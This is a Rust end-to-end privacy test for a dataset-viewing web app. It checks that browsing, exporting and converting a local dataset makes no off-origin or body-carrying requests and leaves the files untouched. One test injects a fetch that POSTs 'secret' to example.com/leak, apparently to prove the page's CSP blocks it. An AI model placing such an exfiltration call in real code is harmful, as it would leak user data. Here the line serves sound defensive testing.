//! End-to-end privacy: while a local dataset is opened, explored, checked, its report exported and
//! the dataset converted to LeRobot v3.0 and saved as a zip, every request the browser makes (the
//! server is its proxy for all origins) goes to the app's own static files, carries no body — and
//! the dataset folder is byte-identical afterwards.

mod support;

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use support::{dist_dir, shared_datasets, Browser, StaticServer, TempDir, SUB_PATH};

fn copy_dir(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for entry in std::fs::read_dir(from).unwrap() {
        let entry = entry.unwrap();
        let target = to.join(entry.file_name());
        if entry.file_type().unwrap().is_dir() {
            copy_dir(&entry.path(), &target);
        } else {
            std::fs::copy(entry.path(), &target).unwrap();
        }
    }
}

/// Every file under `root` with its bytes and modification time.
fn snapshot(root: &Path) -> BTreeMap<PathBuf, (Vec<u8>, std::time::SystemTime)> {
    let mut out = BTreeMap::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(&dir).unwrap() {
            let entry = entry.unwrap();
            let path = entry.path();
            if path.is_dir() {
                stack.push(path);
            } else {
                let modified = entry.metadata().unwrap().modified().unwrap();
                out.insert(path.strip_prefix(root).unwrap().to_path_buf(), (std::fs::read(&path).unwrap(), modified));
            }
        }
    }
    out
}

#[tokio::test(flavor = "multi_thread")]
async fn no_request_leaves_the_app_and_the_dataset_is_untouched() {
    let server = StaticServer::start(dist_dir());
    let browser = Browser::start(&server).await;
    let folder = TempDir::new("private");
    let root = folder.0.join("private_dataset");
    copy_dir(&shared_datasets().join("v30_state_extra"), &root);
    let before = snapshot(&root);

    browser.client.goto(&server.url("")).await.unwrap();
    let promise = browser.wait_for("[data-testid=privacy-promise]").await.text().await.unwrap();
    assert!(promise.contains("never uploaded"), "{promise}");
    browser.wait_for("[data-testid=privacy-how]").await;

    let input = browser.wait_for("[data-testid=open-folder]").await;
    input.send_keys(&root.display().to_string()).await.unwrap();
    browser.wait_for("[data-testid=dataset-summary]").await;
    let summary = browser.wait_for("[data-testid=conformance-summary]").await;
    assert_eq!(summary.attr("data-errors").await.unwrap().as_deref(), Some("0"));
    for (button, file) in [
        ("export-json", "private_dataset.episcope.json"),
        ("export-markdown", "private_dataset.episcope.md"),
        ("export-html", "private_dataset.episcope.html"),
    ] {
        browser.wait_for(&format!("[data-testid={button}]")).await.click().await.unwrap();
        browser.downloaded(file).await;
    }
    // A conversion to LeRobot v3.0, saved as a zip: made in the worker, handed over as a blob: URL.
    browser.wait_for("[data-testid=convert-start]").await.click().await.unwrap();
    let result = browser.wait_for("[data-testid=convert-result]").await;
    assert_eq!(result.attr("data-errors").await.unwrap().as_deref(), Some("0"));
    browser.wait_for("[data-testid=convert-download]").await.click().await.unwrap();
    let archive = browser.downloaded("private_dataset_v3.0.zip").await;
    assert_eq!(&archive[..4], b"PK\x03\x04");
    browser.wait_for("[data-testid=nav-rules]").await.click().await.unwrap();
    browser.wait_for("[data-testid=rules]").await;

    let dist = dist_dir();
    let requests = server.recorded();
    assert!(!requests.is_empty());
    let dataset_names: Vec<String> =
        before.keys().filter_map(|p| p.file_name().map(|n| n.to_string_lossy().into_owned())).collect();
    for request in requests.iter().filter(|r| r.is_browser_service()) {
        // Chromium's own pings: small, and none of them mentions the dataset.
        let body = String::from_utf8_lossy(&request.body);
        assert!(request.body_bytes < 4096, "{request:?}");
        assert!(!body.contains("private") && !body.contains("parquet"), "{request:?}");
    }
    for request in requests.iter().filter(|r| !r.is_browser_service()) {
        assert!(request.via_proxy, "the browser bypassed the recording proxy: {request:?}");
        assert_eq!(request.host, server.own_host(), "a request left the app's origin: {request:?}");
        assert_eq!(request.method, "GET", "{request:?}");
        assert_eq!(request.body_bytes, 0, "a request carried a body: {request:?}");
        let relative = request.path.strip_prefix(SUB_PATH).unwrap_or_else(|| panic!("outside the app: {request:?}"));
        let file = if relative.is_empty() { dist.join("index.html") } else { dist.join(relative) };
        assert!(file.is_file(), "not one of the app's static files: {request:?}");
        for name in dataset_names.iter().filter(|n| n.as_str() != "info.json" && n.as_str() != "stats.json") {
            // Bundled examples share file names with datasets; a local file name may appear only there.
            assert!(
                !request.path.contains(name.as_str()) || relative.starts_with("examples/"),
                "a local file was named in a request: {request:?}"
            );
        }
        assert!(!request.path.contains("private"), "the local dataset appeared in a request: {request:?}");
    }
    browser.close().await;

    // Nothing in the app writes to the user's dataset: same files, same bytes, same times.
    assert_eq!(snapshot(&root), before, "the dataset folder changed");
}

#[tokio::test(flavor = "multi_thread")]
async fn the_recorder_sees_other_origins_and_the_csp_blocks_them() {
    let server = StaticServer::start(dist_dir());
    let browser = Browser::start(&server).await;
    browser.client.goto(&server.url("")).await.unwrap();
    browser.wait_for("[data-testid=open-folder]").await;
    // The page's CSP refuses a connection to any other origin before it reaches the network.
    let outcome = browser
        .client
        .execute_async(
            "const done = arguments[arguments.length - 1];
             fetch('http://example.com/leak', { method: 'POST', body: 'secret' })
               .then(() => done('sent'), (e) => done('blocked'));",
            vec![],
        )
        .await
        .unwrap();
    assert_eq!(outcome, serde_json::json!("blocked"));
    assert!(
        server.recorded().iter().all(|r| r.host == server.own_host() || r.is_browser_service()),
        "{:?}",
        server.recorded()
    );
    // Negative control: a navigation to another origin does go through the recorder, so the
    // privacy test above would see any request that escaped the CSP.
    let _ = browser.client.goto("http://example.com/elsewhere").await;
    assert!(server.recorded().iter().any(|r| r.host.starts_with("example.com")), "{:?}", server.recorded());
    browser.close().await;
}
